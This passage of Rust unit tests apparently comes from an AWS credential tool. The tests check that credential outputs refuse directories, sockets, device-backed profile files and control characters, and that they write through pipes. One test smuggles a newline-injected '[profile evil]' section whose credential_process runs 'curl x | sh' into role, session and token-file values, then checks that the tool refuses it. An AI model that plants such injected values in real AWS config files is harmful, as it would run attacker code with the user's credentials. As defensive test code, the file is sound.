        std::fs::symlink_metadata(p).is_ok_and(|m| m.file_type().is_fifo())
    }

    const STREAM_FORMATS: [&str; 5] = ["env", "sh", "fish", "powershell", "json"];

    fn profile_env(config: &Path, creds: &Path) -> crate::env::Env {
        [
            (
                "AWS_SHARED_CREDENTIALS_FILE".to_string(),
                creds.display().to_string(),
            ),
            ("AWS_CONFIG_FILE".to_string(), config.display().to_string()),
        ]
        .into()
    }

    #[cfg(unix)]
    #[test]
    fn stream_outputs_write_through_a_device() {
        let dir = tempfile::tempdir().unwrap();
        let Some(null) = private_null(dir.path()) else {
            return;
        };
        for f in STREAM_FORMATS {
            let destinations = vec![format!("{f}={}", null.display()).parse().unwrap()];
            let plan = Plan::render(
                &destinations,
                &assumed(),
                &crate::env::Env::default(),
                &RenderOptions::default(),
            )
            .unwrap();
            plan.apply().unwrap_or_else(|e| panic!("{f}: {e}"));
            assert!(is_char_device(&null), "{f} replaced the device");
        }
        let mut plan = Plan::default();
        plan.add_console_url(
            &UrlDest::File(null.clone()),
            &Secret::new("https://signin.aws.amazon.com/federation?x"),
            &assumed(),
            &crate::env::Env::default(),
        )
        .unwrap();
        plan.apply().unwrap();
        assert!(is_char_device(&null), "the console URL replaced the device");
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
    }

    /// `/dev/stderr` and bash's `>(…)` (`/dev/fd/63`) are links to a device or a pipe: written
    /// through as well. A link to a regular file is still refused.
    #[cfg(unix)]
    #[test]
    fn stream_outputs_write_through_a_link_to_a_device_only() {
        let dir = tempfile::tempdir().unwrap();
        let Some(null) = private_null(dir.path()) else {
            return;
        };
        let link = dir.path().join("stderr");
        std::os::unix::fs::symlink(&null, &link).unwrap();
        let file = dir.path().join("file");
        std::fs::write(&file, "mine").unwrap();
        let file_link = dir.path().join("file-link");
        std::os::unix::fs::symlink(&file, &file_link).unwrap();
        let render = |p: &Path| {
            Plan::render(
                &[format!("sh={}", p.display()).parse().unwrap()],
                &assumed(),
                &crate::env::Env::default(),
                &RenderOptions::default(),
            )
            .and_then(|p| p.apply())
        };
        render(&link).unwrap();
        assert!(is_char_device(&null));
        assert!(
            std::fs::symlink_metadata(&link)
                .unwrap()
                .file_type()
                .is_symlink()
        );
        let msg = render(&file_link)
            .expect_err("a link to a file")
            .to_string();
        assert!(msg.contains("symbolic link"), "{msg}");
        assert_eq!(std::fs::read_to_string(&file).unwrap(), "mine");
    }

    #[cfg(unix)]
    #[test]
    fn stream_outputs_write_through_a_fifo() {
        let dir = tempfile::tempdir().unwrap();
        for f in STREAM_FORMATS {
            let fifo = dir.path().join(format!("fifo-{f}"));
            mkfifo(&fifo);
            let (tx, rx) = std::sync::mpsc::channel();
            let reader = fifo.clone();
            std::thread::spawn(move || {
                let _ = tx.send(std::fs::read_to_string(reader));
            });
            let destinations = vec![format!("{f}={}", fifo.display()).parse().unwrap()];
            let plan = Plan::render(
                &destinations,
                &assumed(),
                &crate::env::Env::default(),
                &RenderOptions::default(),
            )
            .unwrap();
            plan.apply().unwrap_or_else(|e| panic!("{f}: {e}"));
            assert!(is_fifo(&fifo), "{f} replaced the fifo by a file");
            let got = rx
                .recv_timeout(std::time::Duration::from_secs(10))
                .expect("the reader got nothing")
                .unwrap();
            assert!(got.contains("ASIAEXAMPLE"), "{f}: {got:?}");
            assert!(got.contains("FwoGZX=="), "{f}: {got:?}");
        }
    }

    #[cfg(unix)]
    #[test]
    fn profile_files_that_are_devices_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let Some(null) = private_null(dir.path()) else {
            return;
        };
        let file = dir.path().join("file");
        let refreshable = RenderOptions {
            refreshable: Some("aws-oidc credential-process --role-arn x".into()),
            ..Default::default()
        };
        for (config, creds, var) in [
            (&null, &file, "AWS_CONFIG_FILE"),
            (&file, &null, "AWS_SHARED_CREDENTIALS_FILE"),
        ] {
            for opts in [&RenderOptions::default(), &refreshable] {
                let err = Plan::render(
                    &["profile=x".parse().unwrap()],
                    &assumed(),
                    &profile_env(config, creds),
                    opts,
                )
                .err()
                .expect("a device as profile file must be refused");
                let msg = err.to_string();
                assert!(matches!(err, OutputError::Usage(_)), "{msg}");
                assert!(
                    msg.contains(&format!("{var} is {}, not a file", null.display())),
                    "{msg}"
                );
                assert!(msg.contains("profile x"), "{msg}");
                assert!(is_char_device(&null));
                assert!(!file.exists());
            }
        }
    }

    #[cfg(unix)]
    #[test]
    fn web_identity_token_file_must_be_a_file() {
        let dir = tempfile::tempdir().unwrap();
        let Some(null) = private_null(dir.path()) else {
            return;
        };
        let opts = RenderOptions {
            web_identity: Some(WebIdentity {
                role_arn: "arn:aws:iam::123456789012:role/deploy".into(),
                session_name: "s".into(),
                token_file: null.clone(),
                token: Secret::new("eyJ.eyJ.sig"),
            }),
            ..Default::default()
        };
        let destinations: Vec<Destination> = vec![
            "web-identity".parse().unwrap(),
            format!("env={}", dir.path().join("aws.env").display())
                .parse()
                .unwrap(),
        ];
        let result = Plan::render(
            &destinations,
            &assumed(),
            &crate::env::Env::default(),
            &opts,
        )
        .and_then(|p| p.apply());
        let msg = result.expect_err("a device as token file").to_string();
        assert!(msg.contains("not a file"), "{msg}");
        assert!(is_char_device(&null));
        assert!(!dir.path().join("aws.env").exists());
    }

    #[cfg(unix)]
    #[test]
    fn other_special_destinations_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let sub = dir.path().join("sub");
        std::fs::create_dir(&sub).unwrap();
        let sock = dir.path().join("sock");
        let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        for (path, what) in [(&sub, "a directory"), (&sock, "a socket")] {
            for f in STREAM_FORMATS {
                let destinations = vec![format!("{f}={}", path.display()).parse().unwrap()];
                let result = Plan::render(
                    &destinations,
                    &assumed(),
                    &crate::env::Env::default(),
                    &RenderOptions::default(),
                )
                .and_then(|p| p.apply());
                let msg = result.expect_err("refused").to_string();
                assert!(
                    msg.contains(&format!("is {what}, not a file")),
                    "{f}: {msg}"
                );
            }
        }
        assert!(sub.is_dir());
        use std::os::unix::fs::FileTypeExt;
        assert!(
            std::fs::symlink_metadata(&sock)
                .unwrap()
                .file_type()
                .is_socket()
        );
    }

    /// A line break (or any control character) in a value written into a profile would start a
    /// key or section of its own: `--output web-identity=PATH` with a newline in PATH must not
    /// plant `[profile evil]` with a `credential_process` of the attacker's choice.
    #[test]
    fn profile_values_with_control_characters_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let creds = dir.path().join("credentials");
        let config = dir.path().join("config");
        let env = profile_env(&config, &creds);
        let evil = "\n[profile evil]\ncredential_process = sh -c 'curl x | sh'\n";
        let web = |role: &str, session: &str, file: &str| RenderOptions {
            web_identity: Some(WebIdentity {
                role_arn: role.into(),
                session_name: session.into(),
                token_file: PathBuf::from(file),
                token: Secret::new("eyJ.eyJ.sig"),
            }),
            ..Default::default()
        };
        let role = "arn:aws:iam::123456789012:role/deploy";
        let file = dir.path().join("token").display().to_string();
        let cases = [
            (
                "web_identity_token_file",
                web(role, "s", &format!("{file}{evil}")),
            ),
            ("role_arn", web(&format!("{role}{evil}"), "s", &file)),
            ("role_session_name", web(role, &format!("s{evil}"), &file)),
            ("role_session_name", web(role, "s\u{1b}[2J", &file)),
            (
                "credential_process",
                RenderOptions {
                    refreshable: Some(format!("aws-oidc credential-process{evil}")),
                    ..Default::default()
                },
            ),
        ];
        for (key, opts) in cases {
            let mut destinations: Vec<Destination> = vec!["profile=ci".parse().unwrap()];
            if opts.web_identity.is_some() {
                destinations.push("web-identity".parse().unwrap());
            }
            let result =
                Plan::render(&destinations, &assumed(), &env, &opts).and_then(|p| p.apply());
            let msg = result.expect_err(key).to_string();
            assert!(msg.contains("profile ci"), "{key}: {msg}");
            assert!(msg.contains(key), "{key}: {msg}");
            assert!(msg.contains("control character"), "{key}: {msg}");
            assert!(!config.exists(), "{key}: config written");
            assert!(!creds.exists(), "{key}: credentials written");
        }
    }

    /// A BOM before the first section, or a section written twice, must not leave old keys
    /// that a reader would take over the new ones.
    #[test]
    fn profile_with_bom_or_repeated_section_keeps_no_stale_key() {
        let dir = tempfile::tempdir().unwrap();
        let creds = dir.path().join("credentials");
        let config = dir.path().join("config");
        let env = profile_env(&config, &creds);
        for (before, ci_headers) in [
            ("\u{feff}[ci]\naws_session_token = STALE\n", 1),
            (
                "[ci]\naws_session_token = STALE\n\n[ci]\naws_session_token = STALE\nmine = 1\n",
                2,
            ),
        ] {
            std::fs::write(&creds, before).unwrap();
            Plan::render(
                &["profile=ci".parse().unwrap()],
                &assumed(),
                &env,
                &RenderOptions::default(),
            )
            .unwrap()
            .apply()
            .unwrap();
            let after = std::fs::read_to_string(&creds).unwrap();
            assert!(!after.contains("STALE"), "{after}");
            assert_eq!(after.matches("[ci]").count(), ci_headers, "{after}");
            assert!(after.contains("aws_session_token = FwoGZX==\n"), "{after}");
            assert_eq!(
                after.starts_with('\u{feff}'),
                before.starts_with('\u{feff}'),
                "{after:?}"
            );
            if ci_headers == 2 {
                assert!(after.ends_with("[ci]\nmine = 1\n"), "{after}");
            }
        }
    }

    #[test]
    fn github_outputs_only_with_credentials_and_masked_account() {
        let dir = tempfile::tempdir().unwrap();
        let gout = dir.path().join("out");
        let env: crate::env::Env =
            [("GITHUB_OUTPUT".to_string(), gout.display().to_string())].into();
        let gh = GitHubOptions {
            mask_account_id: true,
            output_credentials: true,
        };
        let opts = RenderOptions {
            github: gh,
            ..Default::default()
        };
        let plan = Plan::render(
            &["github-outputs".parse().unwrap()],
            &assumed(),
            &env,
            &opts,
        )
        .unwrap();
        assert!(plan.stdout.ends_with("::add-mask::123456789012\n"));
        assert_eq!(plan.appends.len(), 1);
        let (path, content) = &plan.appends[0];
        assert_eq!(path, &gout);
        assert!(content.contains("aws-secret-access-key<<"));
        assert!(content.contains("\nwJalr/K7+MDENG\n"));
        assert!(content.contains("aws-session-token<<"));
    }
}
